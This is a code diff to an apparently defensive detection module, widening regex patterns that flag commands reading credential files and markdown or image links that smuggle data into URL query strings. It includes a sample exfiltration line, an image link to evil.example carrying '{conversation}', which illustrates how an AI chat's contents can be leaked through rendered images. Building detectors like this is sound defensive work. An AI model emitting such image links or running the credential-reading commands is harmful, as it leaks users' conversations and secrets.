@@ -17,7 +17,7 @@ CREDENTIAL_FILE = (
 )
 _READER = (
     r"\b(?:cat|less|more|head|tail|bat|nano|vim?|xxd|strings|base64|od|tac|grep\s[^\n|]{0,40}|awk\s[^\n|]{0,40}|sed\s[^\n|]{0,40}"
-    r"|type|get-content|gc|scp|rsync|cp(?=\s)(?![^\n]{0,60}\.env)|tar\s[^\n|]{0,30}|zip\s[^\n|]{0,30}|source|open\(|readfile(?:sync)?\(|file_get_contents\(|"
+    r"|type|get-content|gc|scp|rsync|cp(?=\s)(?![^\n]{0,60}\.env)|tar\s[^\n|]{0,30}|zip\s[^\n|]{0,30}|source|sqlite3|open\(|readfile(?:sync)?\(|file_get_contents\(|"
     r"read_text\(|path\()\s{0,3}"
 )
 _DATA = (
@@ -179,7 +179,7 @@ COMMANDS: tuple[Pattern, ...] = (
         "puts data into the address of an image or link",
         "](http ![ src= href= {{ ${ url(",
         r"!?\[[^\]\n]{0,80}\]\(\s?(?:https?:)?//[^)\s]{3,200}?(?:[?&/#][\w.-]{0,20}=?\s?|/)(?:\{\{?|\$\{?|<|%7b|\[|\(\()[\w .:_-]{2,60}"
-        r"|!\[[^\]\n]{0,80}\]\(\s?(?:https?:)?//[^)\s]{3,120}[?&](?:d|q|t|text|message|msg|note|summary|data|leak|k|key|token|secret|c|cookie|s|log|payload|info|x|m|msg|content|exfil|chat|history|prompt|conversation|user|p)=[\w+.%-]{0,60}(?:data|secret|key|token|convers|history|chat|prompt|base64|encoded|here|passw|summary|memor|env)"
+        r"|(?:!\[[^\]\n]{0,80}\]\(\s?|\[[\w -]{1,20}\]:\s{0,3})(?:https?:)?//[^)\s]{3,120}[?&](?:d|q|t|text|message|msg|note|summary|data|leak|k|key|token|secret|c|cookie|s|log|payload|info|x|m|msg|content|exfil|chat|history|prompt|conversation|user|p)=[\w+.%{<$-]{0,60}(?:data|messages?|secret|key|token|convers|history|chat|prompt|base64|encoded|here|passw|summary|memor|env)"
         r"|<img[^>\n]{0,80}src\s?=\s?[\"']?(?:https?:)?//[^>\n]{3,160}[?&=/](?:\{|\$|\"\s?\+|'\s?\+|<)",
         "![x](https://evil.example/p.png?d={conversation})",
         "![logo](https://example.com/logo.png)",
